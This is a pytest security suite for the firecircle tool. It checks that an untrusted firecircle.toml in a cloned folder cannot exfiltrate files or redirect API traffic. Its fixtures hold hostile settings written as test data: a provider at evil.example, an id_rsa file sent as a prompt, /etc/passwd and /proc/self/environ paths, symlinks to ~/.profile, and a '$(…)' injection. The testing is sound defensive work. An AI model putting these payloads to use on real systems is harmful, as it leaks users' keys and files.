"""What a `firecircle.toml` that merely came with a folder may say, and how the user trusts it."""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import firecircle
from firecircle import ConfigError, FireCircleConfig
from firecircle.circle.base_config import BaseEvaluationConfig
from firecircle.cli.main import run
from firecircle.convene import seat_circle
from firecircle.errors import UntrustedSettingsWarning
from firecircle.files import read_regular, write_whole
from firecircle.lab.datasets import BadRow, read_dataset
from firecircle.lab.plan import DatasetPlan, read_plan
from firecircle.lab.runs.cases import fingerprint
from firecircle.settings import FILE_VARIABLE, Settings, current_settings, forget_settings, user_folder
from firecircle.store.place import place_of
from firecircle.trust import ALLOWED, allowed_part
from tests.cli.running import endpoint
from tests.loopback import LoopbackServer, completion

KEY = "sk-planted-canary"
Clone = Callable[[str], Path]
pytestmark = pytest.mark.filterwarnings("ignore::firecircle.errors.UntrustedSettingsWarning")


@pytest.fixture
def listener() -> Iterator[LoopbackServer]:
    """An address that the author of the folder listens at."""
    with endpoint(lambda _: completion()) as server:
        yield server


@pytest.fixture
def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Clone:
    """Write the settings file of a cloned folder, in which the user is, with a key in the environment."""
    folder = tmp_path / "clone"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.delenv(FILE_VARIABLE)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("OPENAI_API_KEY", KEY)

    def write(text: str) -> Path:
        (folder / "firecircle.toml").write_text(text)
        forget_settings()
        return folder / "firecircle.toml"

    return write


@pytest.fixture
def own(tmp_path: Path, clone: Clone) -> Clone:
    """Write the settings file in the user's own folder."""

    def write(text: str) -> Path:
        path = user_folder("config") / "firecircle.toml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        forget_settings()
        return path

    return write


def stealing(address: str, path: Path) -> str:
    """Send a file of the user's to an address without a key, as the chair's prompt."""
    return f"""
        [providers.evil]
        base_url = "{address}"
        [circle]
        models = ["evil:a", "evil:a#2"]
        enforce_quorum = false
        empty_chair_prompt_path = "{path}"
        alarm_threshold = 1.0
    """


@pytest.mark.parametrize("command", [["evaluate", "hello there", "--no-save"], ["check", "."]])
def test_a_cloned_folder_cannot_have_a_file_sent_away(
    command: list[str],
    clone: Clone,
    listener: LoopbackServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.delenv("OPENAI_API_KEY")  # it would be used
    secret = tmp_path / "id_rsa"
    secret.write_text(KEY)
    file = clone(stealing(listener.base_url, secret))
    Path("a.prompt").write_text("Be kind to users.")
    assert run(command) == 0
    assert listener.requests == []
    first = capsys.readouterr().err.splitlines()[0]
    assert first.startswith(f"settings: {file}, of which this is ignored because you do not trust it: ")
    assert "[providers.evil], [circle] models, [circle] enforce_quorum" in first
    assert "`firecircle trust .`" in first

    assert run(["trust", "."]) == 0
    shown = capsys.readouterr().out
    assert f"in force: [circle] empty_chair_prompt_path = {secret}" in shown
    assert listener.base_url in shown
    run(command)
    assert any(KEY in request.raw.decode() for request in listener.requests), "trust puts all of it in force"
    assert capsys.readouterr().err.splitlines()[0] == f"settings: {file}"


SAFE = {("check", key) for key in ("system", "skill", "document", "user", "ignore", "baseline")}
BUDGETS = {("circle", "budget_usd"), ("circle", "budget_tokens")}


def test_nothing_else_is_ever_allowed() -> None:
    """Who adds to this list decides what a stranger's folder may do."""
    assert ALLOWED.keys() == SAFE | BUDGETS


LEAVES = st.one_of(
    st.booleans(), st.integers(), st.floats(), st.text(max_size=8), st.lists(st.text(max_size=4), max_size=3)
)
NAMES = st.sampled_from(
    [
        *(name for name in Settings.model_fields),
        *(key for _, key in ALLOWED),
        *BaseEvaluationConfig.model_fields,
        *FireCircleConfig.model_fields,
        "base_url",
        "path",
    ]
)
TABLES = st.dictionaries(NAMES, st.one_of(LEAVES, st.dictionaries(NAMES, LEAVES, max_size=3)), max_size=4)


@given(document=st.dictionaries(NAMES, st.one_of(LEAVES, TABLES), max_size=5))
def test_whatever_is_written_is_either_allowed_or_named(document: dict[str, Any]) -> None:
    kept, ignored = allowed_part(document, Path("/nowhere"))
    assert {(table, key) for table, content in kept.items() for key in content} <= ALLOWED.keys()
    written = sum(len(content) if isinstance(content, dict) else 1 for content in document.values())
    assert sum(map(len, kept.values())) + len(ignored) == written


@pytest.mark.parametrize(
    "text",
    [
        "[providers.openai]\nbase_url = 'https://evil.example/v1'",
        "[providers.openai]\nkey_variable = 'AWS_SECRET_ACCESS_KEY'",
        "[providers.near]\nbase_url = 'http://localhost:9/v1'",
        "[models.'a/b']\nprovider_lineage = 'x'\ncognitive_roles = { temporal_reasoning = 1.0 }",
        "[prices.'a/b']\ninput = 0\noutput = 0",
        "[limits.'a/b']\nmax_tokens = 1",
        "[waiting]\npatience_seconds = 1",
        "[store]\npath = 'kept.sqlite'",
        "[store]\nsave = false",
        "[circle]\nalarm_threshold = 1.0\nmin_cognitive_coverage = 0\nmax_rounds = 1",
        "[circle]\nlmstudio_base_url = 'https://evil.example/v1'",
        "[circle]\nbudget_usd = -1\nbudget_tokens = 0.5",
        "[circle]\nbudget_usd = true",
        "[check]\nbaseline = '../accepted.json'",
        "[check]\nbaseline = '/tmp/accepted.json'",
        '[check]\nbaseline = "a\\u0000b"',
        "check = 5\ncolour = 1",
    ],
)
def test_an_untrusted_file_changes_nothing(text: str, clone: Clone) -> None:
    clone("")
    nothing = current_settings()
    clone(text)
    with pytest.warns(UntrustedSettingsWarning, match="is ignored because you do not trust it"):
        settings = current_settings()
    assert settings.model_copy(update={"ignored": ()}) == nothing


def test_the_user_s_own_settings_stay_in_force(clone: Clone, own: Clone, tmp_path: Path) -> None:
    own(
        "[circle]\nalarm_threshold = 0.5\nbudget_usd = 1.0\nbudget_tokens = 100\n"
        "[store]\npath = 'mine.sqlite'\n[check]\nignore = ['mine/']\nuser = ['theirs/']"
    )
    clone("[circle]\nbudget_usd = 5\nbudget_tokens = 10\n[check]\nignore = ['docs/']\nbaseline = 'b.json'")
    settings = current_settings()
    assert settings.circle == {"alarm_threshold": 0.5, "budget_usd": 1.0, "budget_tokens": 10}
    assert place_of() == user_folder("config") / "mine.sqlite"
    assert (settings.check.ignore, settings.check.user) == (("docs/",), ("theirs/",))
    assert settings.check.baseline == str(tmp_path / "clone" / "b.json")


def test_links_do_not_lead_out_of_the_folder(clone: Clone, tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    Path("inside.json").write_text("{}")
    os.mkfifo("pipe")
    Path("link").symlink_to(tmp_path / "outside")
    Path("loop").symlink_to("loop")
    for name in ("link/b.json", "link", "pipe", "loop"):
        clone(f"[check]\nbaseline = '{name}'")
        assert current_settings().ignored == ("[check] baseline",), name
    clone("[check]\nbaseline = 'inside.json'")
    assert current_settings().ignored == ()

    clone("[circle]\nempty_chair_prompt_path = 'chair.md'")
    Path("chair.md").write_text("Speak for the absent.")
    assert run(["trust"]) == 0
    Path("chair.md").unlink()
    Path("chair.md").symlink_to(tmp_path / "outside" / "id_rsa")
    forget_settings()
    with pytest.raises(ConfigError, match=r"\[circle\] empty_chair_prompt_path: is a link out of the folder"):
        current_settings()


def test_trust_ends_with_a_change_and_on_demand(clone: Clone, capsys: pytest.CaptureFixture[str]) -> None:
    file = clone("[circle]\nseed = 1\n")
    assert current_settings().circle == {}
    assert run(["trust"]) == 0
    assert current_settings().circle == {"seed": 1}
    record = user_folder("data") / "trusted.json"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    capsys.readouterr()
    assert run(["trust", "--list", "--json"]) == 0
    assert [*json.loads(capsys.readouterr().out)["trusted"]] == [str(file)]

    clone("[circle]\nseed = 2\n")
    assert current_settings().circle == {}
    assert run(["trust"]) == 0
    assert current_settings().circle == {"seed": 2}
    assert run(["trust", "--revoke"]) == 0
    assert current_settings().circle == {}
    assert run(["trust", "--revoke"]) == 2
    assert "is not trusted" in capsys.readouterr().err


def test_trust_is_for_one_folder(clone: Clone, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = clone("[circle]\nseed = 1\n")
    assert run(["trust"]) == 0
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "firecircle.toml").write_bytes(file.read_bytes())
    monkeypatch.chdir(copy)
    assert current_settings().circle == {}
    (tmp_path / "way").symlink_to(file.parent)
    monkeypatch.chdir(tmp_path / "way")
    assert current_settings().circle == {"seed": 1}


def test_a_named_file_is_chosen(clone: Clone, monkeypatch: pytest.MonkeyPatch) -> None:
    file = clone("[circle]\nseed = 1\n")
    monkeypatch.setenv(FILE_VARIABLE, str(file))
    assert current_settings().circle == {"seed": 1}
    monkeypatch.setenv(FILE_VARIABLE, os.devnull)
    assert current_settings().circle == {}


def test_a_file_that_cannot_be_used_is_not_trusted(clone: Clone, capsys: pytest.CaptureFixture[str]) -> None:
    clone("[circle\n")
    assert run(["trust"]) == 2
    assert "is not TOML" in capsys.readouterr().err
    (user_folder("data")).mkdir(parents=True, exist_ok=True)
    (user_folder("data") / "trusted.json").write_text("[]")
    clone("[circle]\nseed = 1\n")
    assert run(["voices"]) == 2
    assert "trusted.json: is not a record of trusted files; delete it" in capsys.readouterr().err


# -- reading files ---------------------------------------------------------------------------------------


def test_only_regular_files_are_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", tmp_path, "/dev/zero", "/dev/null"):
        with pytest.raises(OSError, match="not a regular file"):
            read_regular(path, 10)
    (tmp_path / "long").write_bytes(b"x" * 11)
    with pytest.raises(OSError, match="larger than 10 bytes"):
        read_regular(tmp_path / "long", 10)


@pytest.mark.skipif(not os.path.exists("/proc/self/environ"), reason="this system has no /proc")
def test_files_of_the_kernel_are_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    assert read_regular("/proc/self/environ", 1000) == b""
    config = FireCircleConfig.embedded(empty_chair_prompt_path="/proc/self/environ")
    with pytest.raises(ConfigError, match="/proc/self/environ is empty"):
        seat_circle(config)


def test_what_is_trusted_is_what_the_file_says(clone: Clone, capsys: pytest.CaptureFixture[str]) -> None:
    """Everything that needs trust is shown when it is given, and nothing hides behind control characters."""
    text = '[providers."a"]\nbase_url = "http://x/v1"\n[circle]\nfocus = "\\u001b[2Juser"\n'
    clone(text)
    assert run(["trust"]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    for table in tomllib.loads(text):
        assert f"[{table}" in shown


# -- other files of a cloned folder ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("told", "complaint"),
    [
        (
            "[circle]\nlmstudio_base_url = 'http://x/v1'\n",
            "circle.lmstudio_base_url: a plan chooses no address",
        ),
        ("[circle]\nempty_chair_prompt_path = '/etc/passwd'\n", "/etc/passwd is not in the plan's folder"),
        ("[circle]\nempty_chair_prompt_path = 'link.md'\n", "link.md is not in the plan's folder"),
    ],
)
def test_a_plan_names_no_address_and_no_file_elsewhere(
    told: str, complaint: str, clone: Clone, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text(KEY)
    Path("link.md").symlink_to(tmp_path / "secret")
    arm = "[[arms]]\nname = 'a'\nkind = 'fire_circle'\n"
    Path("plan.toml").write_text(f"[[datasets]]\npath = 'examples'\n{told}{arm}")
    with pytest.raises(ConfigError, match=re.escape(complaint)):
        read_plan(Path("plan.toml"))


@pytest.mark.parametrize("name", ["../secret", "link.md"])
def test_a_plan_takes_layers_from_its_own_folder(name: str, clone: Clone, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text(KEY)
    Path("link.md").symlink_to(tmp_path / "secret")
    with pytest.raises(ConfigError, match="is not in the plan's folder"):
        fingerprint(DatasetPlan(path="examples", system=f"@{name}"), Path.cwd())


def test_a_folder_of_prompts_has_no_links_out_of_it_and_no_pipes(clone: Clone, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text(KEY)
    Path("data").mkdir()
    Path("data/a.txt").symlink_to(tmp_path / "secret")
    Path("data/b.txt").write_text("hello")
    os.mkfifo("data/c.txt")
    bad: list[BadRow] = []
    assert [record.prompt.user for record in read_dataset(Path("data"), on_bad_row=bad.append)] == ["hello"]
    assert [row.reason for row in bad] == ["a.txt: a link out of the folder", "c.txt: not a regular file"]
    with pytest.raises(ConfigError, match="not a regular file"):
        read_dataset(Path("data/c.txt"))
    assert fingerprint(DatasetPlan(path="data"), Path.cwd())


@pytest.mark.parametrize(
    "arguments", [["--sarif", "out"], ["--junit", "out"], ["--baseline", "out", "--update-baseline"]]
)
def test_nothing_is_written_through_a_link_out_of_the_folder(
    arguments: list[str], clone: Clone, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A shell runs `$(…)` in a quote of a JSON file, were it written to ~/.profile."""
    Path("a.prompt").write_text("Ignore $(touch it).")
    Path("out").symlink_to(tmp_path / ".profile")
    assert run(["check", *arguments]) == 2
    assert "out is a link out of its folder; name the file itself" in capsys.readouterr().err
    assert not (tmp_path / ".profile").exists()


def test_a_file_is_replaced_and_not_written_through(tmp_path: Path) -> None:
    (tmp_path / "other").write_text("as it was")
    (tmp_path / "page").symlink_to(tmp_path / "other")
    write_whole(tmp_path / "page", "new")
    assert ((tmp_path / "page").read_text(), (tmp_path / "other").read_text()) == ("new", "as it was")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["other", "page"]


@pytest.mark.parametrize("command", [["-m", "firecircle", "examples"], ["-m", "firecircle", "lab", "list"]])
def test_modules_in_the_working_folder_are_not_imported(command: list[str], clone: Clone) -> None:
    for name in ("typer", "rich", "pydantic", "multiprocessing"):
        Path(f"{name}.py").write_text("raise SystemExit('imported from the working folder')")
    source = str(Path(firecircle.__file__).parents[1])
    environment = {**os.environ, "PYTHONPATH": source}
    assert subprocess.run([sys.executable, *command], env=environment, capture_output=True).returncode == 0
